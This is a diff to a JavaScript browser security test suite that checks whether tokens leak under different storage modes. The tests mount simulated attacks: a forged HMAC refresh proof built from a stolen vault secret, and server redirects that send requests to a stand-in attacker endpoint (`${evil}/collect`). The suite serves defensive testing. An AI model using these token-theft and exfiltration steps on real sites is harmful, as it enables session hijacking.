@@ -3,7 +3,10 @@
 export const server = [
   {
     id: 'C-013b',
-    title: 'Have a handler say what was sent to it',
+    title: 'Have the server repeat the headers that it was sent',
+    inPage: true,
+    expects: { localStorage: 'taken', memory: 'taken', symbolon: 'nothing', symbolonWithoutPolicy: 'nothing' },
+    why: 'the gate takes both halves out of a request before any handler sees it',
     lent: true,
     run: async ({ keep, request, echo }) => {
       const answer = await request(echo);
@@ -14,6 +17,9 @@ export const server = [
   {
     id: 'C-014',
     title: 'Ask the server for a token, with the cookies that are there',
+    inPage: true,
+    expects: { localStorage: 'nothing', memory: 'taken', symbolon: 'nothing', symbolonWithoutPolicy: 'nothing' },
+    why: 'cookies alone buy none: it takes a proof by a worker that this browser loaded from the server',
     run: async ({ keep, attempt }) =>
       attempt(async () => {
         const answer = await fetch('/auth/refresh', { method: 'POST', credentials: 'include' });
@@ -24,8 +30,12 @@ export const server = [
   },
   {
     id: 'C-014c',
-    title: "Enrol a key with a vault's secret that a thief has fetched elsewhere",
-    run: async ({ keep, boot: { secretId, secret, now } }) => {
+    title: "Ask for a token with a vault's secret that a thief has fetched elsewhere",
+    inPage: true,
+    bringsBoot: true,
+    expects: { localStorage: 'nothing', memory: 'taken', symbolon: 'nothing', symbolonWithoutPolicy: 'nothing' },
+    why: 'such a secret is good only beside the vault cookie for which it was made',
+    run: async ({ keep, attempt, boot: { secretId, secret, now } }) => {
       const bytes = (text) => Uint8Array.from(atob(text.replace(/-/g, '+').replace(/_/g, '/')), (c) => c.charCodeAt(0));
       const text = (buffer) =>
         btoa(String.fromCharCode(...new Uint8Array(buffer))).replace(/\+/g, '-').replace(/\//g, '_').replace(/=/g, '');
@@ -38,15 +48,20 @@ export const server = [
       const key = await crypto.subtle.importKey('raw', bytes(secret), { name: 'HMAC', hash: 'SHA-256' }, false, ['sign']);
       const mac = await crypto.subtle.sign('HMAC', key, new TextEncoder().encode(`enrol.refresh.${rest}`));
       const headers = { 'symbolon-proof': `enrol.${rest}.${text(mac)}` };
-      const answer = await fetch('/auth/refresh', { method: 'POST', headers });
-      const body = await answer.text();
-      keep('refresh', body);
-      return [answer.status, JSON.parse(body).code];
+      return attempt(async () => {
+        const answer = await fetch('/auth/refresh', { method: 'POST', headers });
+        const body = await answer.text();
+        keep('refresh', body);
+        return [answer.status, JSON.parse(body).code];
+      });
     },
   },
   {
     id: 'C-014b',
     title: 'Sign in from the page, and keep the answer',
+    inPage: true,
+    expects: { localStorage: 'taken', memory: 'taken', symbolon: 'nothing', symbolonWithoutPolicy: 'nothing' },
+    why: 'a sign-in takes the same proof, and its answer is sealed for the worker',
     run: async ({ keep, attempt, credentials }) =>
       attempt(async () => {
         const headers = { 'content-type': 'application/json' };
@@ -58,18 +73,21 @@ export const server = [
   },
   {
     id: 'C-017',
-    title: 'Have the server send the client elsewhere',
+    title: 'Have the server send the request on to the attacker',
+    inPage: true,
+    expects: { localStorage: 'nothing', memory: 'nothing', symbolon: 'nothing', symbolonWithoutPolicy: 'nothing' },
+    why: 'the worker follows no redirect, wherever it leads',
     lent: true,
-    run: async ({ keep, attempt, request, evil }) => {
+    run: async ({ keep, attempt, request, evil, echo, redirect }) => {
       const said = {};
       const elsewhere = `${evil}/collect`;
-      const back = `${evil}/collect?back=${encodeURIComponent(`${location.origin}/api/echo`)}`;
+      const back = `${evil}/collect?back=${encodeURIComponent(location.origin + echo)}`;
       for (const status of [301, 302, 303, 307, 308]) {
         for (const [where, to] of Object.entries({ elsewhere, back, home: '/api/me' })) {
           for (const method of ['GET', 'POST']) {
             said[`${method} ${status} ${where}`] = await attempt(async () => {
               const init = { method, headers: { 'content-type': 'application/json' }, body: method === 'POST' ? '{}' : undefined };
-              const answer = await request(`/api/redirect?status=${status}&to=${encodeURIComponent(to)}`, init).catch((error) => {
+              const answer = await request(`${redirect}?status=${status}&to=${encodeURIComponent(to)}`, init).catch((error) => {
                 keep('thrown', error);
                 throw error.code ? { name: error.code } : error;
               });
@@ -85,6 +103,9 @@ export const server = [
   {
     id: 'C-021',
     title: 'Give every object options of the attacker',
+    inPage: true,
+    expects: { localStorage: 'taken', memory: 'taken', symbolon: 'nothing', symbolonWithoutPolicy: 'nothing' },
+    why: 'no option of the page can add a place that the token is sent to: the server has said them all',
     lent: true,
     run: async ({ keep, work, request, evil, attempt }) => {
       const planted = {
@@ -104,6 +125,9 @@ export const server = [
   {
     id: 'C-027',
     title: 'Move the base of every address, and clobber names',
+    inPage: true,
+    expects: { localStorage: 'taken', memory: 'taken', symbolon: 'nothing', symbolonWithoutPolicy: 'nothing' },
+    why: 'the policy fixes the base, and the worker sends to no origin that the server has not named',
     early: true,
     unready: true,
     plant: ({ evil }) => {
